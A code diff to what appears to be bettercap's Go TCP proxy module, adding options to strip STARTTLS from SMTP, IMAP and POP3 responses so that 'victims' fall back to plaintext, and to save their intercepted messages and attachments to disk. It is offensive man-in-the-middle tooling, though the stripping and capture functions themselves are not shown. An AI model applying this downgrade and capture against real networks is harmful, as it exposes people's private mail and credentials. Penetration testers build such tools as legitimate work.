@@ -18,6 +18,8 @@ type TcpProxy struct {
 	tunnelAddr  *net.TCPAddr
 	listener    *net.TCPListener
 	script      *TcpProxyScript
+	starttls    bool
+	mail        *mailCapture
 }
 
 func NewTcpProxy(s *session.Session) *TcpProxy {
@@ -57,6 +59,31 @@ func NewTcpProxy(s *session.Session) *TcpProxy {
 		"0",
 		"Port to redirect the TCP tunnel to (optional)."))
 
+	mod.AddParam(session.NewBoolParameter("tcp.proxy.starttls.strip",
+		"false",
+		"If true, STARTTLS capabilities will be removed from SMTP, IMAP and POP3 server responses in order to force victims to proceed in plaintext."))
+
+	mod.AddParam(session.NewBoolParameter("tcp.proxy.mail.capture",
+		"false",
+		"If true, the messages sent and received in plaintext SMTP, IMAP and POP3 sessions are saved as .eml files to tcp.proxy.mail.path, together with their attachments."))
+
+	mod.AddParam(session.NewStringParameter("tcp.proxy.mail.path",
+		"~/bettercap-mail",
+		"",
+		"Folder to save the captured messages to, in a subfolder per victim."))
+
+	mod.AddParam(session.NewIntParameter("tcp.proxy.mail.max.size",
+		"10485760",
+		"Maximum size in bytes of a captured message, bigger ones are truncated."))
+
+	mod.AddParam(session.NewListParameter("tcp.proxy.mail.attachments.types",
+		"",
+		"Comma separated list of content types of the attachments to extract, values ending with / match every subtype (like image/), if empty every attachment is extracted."))
+
+	mod.AddParam(session.NewIntParameter("tcp.proxy.mail.attachments.max.size",
+		"5242880",
+		"Maximum size in bytes of the extracted attachments."))
+
 	mod.AddHandler(session.NewModuleHandler("tcp.proxy on", "",
 		"Start TCP proxy.",
 		func(args []string) error {
@@ -110,6 +137,8 @@ func (mod *TcpProxy) Configure() error {
 		return err
 	} else if err, scriptPath = mod.StringParam("tcp.proxy.script"); err != nil {
 		return err
+	} else if err, mod.starttls = mod.BoolParam("tcp.proxy.starttls.strip"); err != nil {
+		return err
 	} else if mod.localAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", proxyAddress, proxyPort)); err != nil {
 		return err
 	} else if mod.remoteAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", address, port)); err != nil {
@@ -120,6 +149,10 @@ func (mod *TcpProxy) Configure() error {
 		return err
 	}
 
+	if err = mod.configureMail(); err != nil {
+		return err
+	}
+
 	if scriptPath != "" {
 		if err, mod.script = LoadTcpProxyScript(scriptPath, mod.Session); err != nil {
 			return err
@@ -204,6 +237,11 @@ func (mod *TcpProxy) handleConnection(c *net.TCPConn) {
 	}
 	defer remote.Close()
 
+	if mod.starttls || mod.mail != nil {
+		mod.stripStarttls(c, remote)
+		return
+	}
+
 	wg := sync.WaitGroup{}
 	wg.Add(2)
 
@@ -244,6 +282,10 @@ func (mod *TcpProxy) Stop() error {
 		mod.Redirection = nil
 	}
 
+	if mod.script != nil {
+		mod.script.Unload()
+	}
+
 	return mod.SetRunning(false, func() {
 		mod.listener.Close()
 	})